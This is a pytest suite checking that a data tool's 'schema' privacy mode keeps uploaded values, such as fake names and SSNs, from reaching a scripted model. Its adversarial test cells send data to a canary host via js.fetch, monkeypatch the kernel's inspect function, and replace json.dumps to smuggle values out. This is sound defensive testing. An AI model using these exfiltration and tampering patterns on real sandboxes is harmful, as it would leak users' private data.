"""Schema privacy through the JS API (issue 32, P1-P4): `reckon serve` on loopback in
front of a scripted model that is a real HTTP server recording every body it receives,
the cells trying to reach a canary that must hear nothing, and what reached the model
checked for every value of the uploads.
"""

from __future__ import annotations

import io
import json
import zipfile
from typing import Any

import pandas as pd
import pytest

from .helpers import Canary
from .playlist_kit import Playlist

PEOPLE = pd.DataFrame({"name": ["Alice Zimmermann", "Bob Quist"], "salary": [73412.5, 51877.25]})
SECRET = pd.DataFrame(
    {"who": ["Cornelius Ashdown", "Dmitri Volkov"], "ssn": ["555-01-2345", "555-02-1111"],
     "town": ["Vladivostok", "Omsk"]}
)  # fmt: skip
# A zip member's own people (none of them in the workbook, so each part is tested alone).
MEMBER = pd.DataFrame({"who": ["Henrietta Pargeter", "Ignatius Brackenbury"],
                       "town": ["Petropavlovsk", "Magadan"]})  # fmt: skip
SECRETS = ["Alice Zimmermann", "Bob Quist", "73412.5", "Cornelius Ashdown", "Dmitri Volkov",
           "555-01-2345", "555-02-1111", "Vladivostok", "Omsk", "Henrietta Pargeter",
           "Ignatius Brackenbury", "Petropavlovsk", "Magadan"]  # fmt: skip


def workbook() -> bytes:
    buffer = io.BytesIO()
    with pd.ExcelWriter(buffer) as writer:
        PEOPLE.to_excel(writer, sheet_name="People", index=False)
        SECRET.to_excel(writer, sheet_name="Secret", index=False)
    return buffer.getvalue()


def zipped(members: dict[str, bytes]) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        for name, data in members.items():
            archive.writestr(name, data)
    return buffer.getvalue()


def fresh_reckon(page: Any, files: dict[str, bytes], settings: dict[str, Any]) -> None:
    """`window.r`: a new createReckon() (nothing kept) with these uploads."""
    page.evaluate(
        """async ([files, settings]) => {
            if (window.r) window.r.close();
            const { createReckon } = await import("./reckon.js");
            window.r = createReckon({ persist: false, settings });
            await window.r.ready();
            for (const [name, hex] of Object.entries(files)) {
                const bytes = new Uint8Array(hex.match(/../g).map((h) => parseInt(h, 16)));
                const reply = await window.r.upload({ name, bytes });
                if (reply.status !== "ok" && !name.endsWith(".zip")) throw new Error(reply.message);
            }
        }""",
        [{name: data.hex() for name, data in files.items()}, settings],
    )


def ask(page: Any, model: Playlist, queue: list[tuple[str, str]]) -> dict[str, Any]:
    model.requests.clear()
    model.queue = list(queue)
    outcome: dict[str, Any] = page.evaluate(
        "() => window.r.ask('who is in there', {model: 'scripted'})"
    )
    return outcome


def sent(model: Playlist) -> str:
    return json.dumps([r["payload"] for r in model.requests], ensure_ascii=False)


def leaked(model: Playlist, values: list[str] = SECRETS) -> list[str]:
    text = sent(model)
    return [v for v in values if v in text]


def to_canary(canary: Canary, expression: str) -> str:
    """A line of a cell that tries to send ``expression`` to the canary."""
    return (
        "import js\ntry:\n"
        f"    await js.fetch({canary.url!r} + '/?' + str({expression}))\n"
        "except Exception as exc:\n    print('blocked')\n"
    )


def printed(outcome: dict[str, Any]) -> str:
    cells = [s for s in outcome["steps"] if s["kind"] == "code" and not s.get("origin")]
    return json.dumps([c["result"] for c in cells], ensure_ascii=False)


@pytest.mark.slow
def test_every_sheet_and_member_is_scanned_before_anything_is_sent(
    a_page: Any, a_playlist: tuple[Playlist, str], canary: Canary
) -> None:
    model, _ = a_playlist
    archive = zipped({"a.csv": PEOPLE.to_csv(index=False).encode(),
                      "more/b.csv": MEMBER.to_csv(index=False).encode()})  # fmt: skip
    fresh_reckon(a_page, {"book.xlsx": workbook(), "both.zip": archive}, {"privacy": "schema"})
    cell = (
        "import pandas as pd, zipfile\n"
        "secret = pd.read_excel('/data/book.xlsx', sheet_name='Secret')\n"
        "print(secret.to_string())\n"
        "z = zipfile.ZipFile('/data/both.zip')\n"
        "print([z.read(n).decode() for n in z.namelist()])\n"
    ) + to_canary(canary, "secret.to_dict()")
    outcome = ask(a_page, model, [("code", cell), ("text", "Done.")])
    assert outcome["status"] == "ok", outcome
    assert "Cornelius Ashdown" in printed(outcome) and "Alice Zimmermann" in printed(outcome)
    assert "Petropavlovsk" in printed(outcome)
    assert len(model.requests) == 2 and leaked(model) == []
    assert canary.hits == []


@pytest.mark.slow
def test_an_archive_member_that_cannot_be_read_sends_nothing(
    a_page: Any, a_playlist: tuple[Playlist, str]
) -> None:
    model, _ = a_playlist
    archive = zipped({"a.csv": SECRET.to_csv(index=False).encode(), "b.xlsx": b"PK\x03\x04.."})
    fresh_reckon(a_page, {"parts.zip": archive}, {"privacy": "schema"})
    outcome = ask(a_page, model, [("code", "print(1)"), ("text", "Done.")])
    assert outcome["status"] == "error" and model.requests == []
    assert "Nothing was sent" in outcome["message"] and "parts.zip (b.xlsx)" in outcome["message"]
    assert "privacy 'full'" in outcome["message"]


HEADERLESS = (
    "Cornelius Ashdown,555-01-2345,88888,Vladivostok\n"
    "Bob Quist,555-02-1111,77777,Omsk\n"
    "Dmitri Volkov,555-11-2222,65432,Lyon\n"
)


@pytest.mark.slow
def test_a_first_row_of_data_is_not_sent_as_column_names(
    a_page: Any, a_playlist: tuple[Playlist, str], canary: Canary
) -> None:
    model, _ = a_playlist
    fresh_reckon(a_page, {"people.csv": HEADERLESS.encode()}, {"privacy": "schema"})
    cell = (
        "import pandas as pd\ndf = pd.read_csv('/data/people.csv')\n"
        "print(list(df.columns))\n" + to_canary(canary, "list(df.columns)")
    )
    outcome = ask(a_page, model, [("code", cell), ("text", "Done.")])
    assert outcome["status"] == "ok", outcome
    assert "Cornelius Ashdown" in printed(outcome)
    assert leaked(model, ["Cornelius Ashdown", "555-01-2345", "88888", "Vladivostok"]) == []
    system = model.requests[0]["payload"]["messages"][0]["content"]
    assert "/data/people.csv" in system and system.count("[hidden]") >= 4
    assert canary.hits == []


# What a cell of an earlier ask can leave in the session: a file under /data named like
# an id whose columns are people, and an inspect that adds its own text.
PLANT = """\
import pandas as pd, reckon.kernel
pivot = pd.DataFrame({"Alice Zimmermann": [1], "Bob Quist": [2]})
pivot.to_csv("/data/555-01-2345.csv", index=False)
real = reckon.kernel.inspect
def patched(path):
    found = real(path)
    found["notes"] = ["PATCHED-INSPECT-NOTE Cornelius Ashdown"]
    found["columns"] = found.get("columns", []) + [{"name": "Dmitri Volkov", "dtype": "x"}]
    return found
reckon.kernel.inspect = patched
"""


@pytest.mark.slow
def test_the_prompt_comes_from_the_fresh_workers_own_look_at_the_uploads(
    a_page: Any, a_playlist: tuple[Playlist, str]
) -> None:
    model, _ = a_playlist
    fresh_reckon(a_page, {"staff.csv": PEOPLE.to_csv(index=False).encode()}, {"privacy": "full"})
    planted = a_page.evaluate("(code) => window.r.run(code)", PLANT)
    assert planted["status"] == "ok", planted
    reported = a_page.evaluate("() => window.r.inspect('/data/staff.csv')")
    assert reported["notes"] == ["PATCHED-INSPECT-NOTE Cornelius Ashdown"]  # the session lies
    configured = a_page.evaluate("() => window.r.configure({privacy: 'schema'})")
    assert configured["status"] == "ok", configured
    outcome = ask(a_page, model, [("code", "print(2)"), ("text", "Done.")])
    assert outcome["status"] == "ok", outcome
    everything = sent(model)
    assert "555-01-2345" not in everything and "PATCHED-INSPECT-NOTE" not in everything
    assert leaked(model) == []
    system = model.requests[0]["payload"]["messages"][0]["content"]
    assert "/data/staff.csv" in system and "'salary'" in system


# A cell that rewrites its own result as the sandbox serializes it (json.dumps runs in
# the cell's interpreter after the cell), and makes a value the name of a type.
REWRITE = """\
import json, pandas as pd
df = pd.read_excel('/data/book.xlsx', sheet_name='Secret')
_dumps = json.dumps
def dumps(obj, *args, **kwargs):
    if isinstance(obj, dict) and "stdout" in obj:
        obj = {**obj, "status": df["town"][0], "note": df["who"][0],
               "files": [{"path": "/output/x", "change": df["ssn"][0], "size": 1}]}
    return _dumps(obj, *args, **kwargs)
json.dumps = dumps
type(df["town"][1], (), {})()
"""


@pytest.mark.slow
def test_every_string_sent_is_filtered_whatever_field_it_came_in(
    a_page: Any, a_playlist: tuple[Playlist, str], canary: Canary
) -> None:
    model, _ = a_playlist
    fresh_reckon(a_page, {"book.xlsx": workbook()}, {"privacy": "schema"})
    try:
        outcome = ask(a_page, model, [("code", REWRITE), ("text", "Done."), ("text", "Done.")])
        assert outcome["status"] == "ok", outcome
        shown = printed(outcome)
        assert "Vladivostok" in shown and "Omsk" in shown  # the page got the forged fields
        assert len(model.requests) >= 2 and leaked(model) == []
        assert canary.hits == []
    finally:
        a_page.evaluate("() => window.r.restart()")
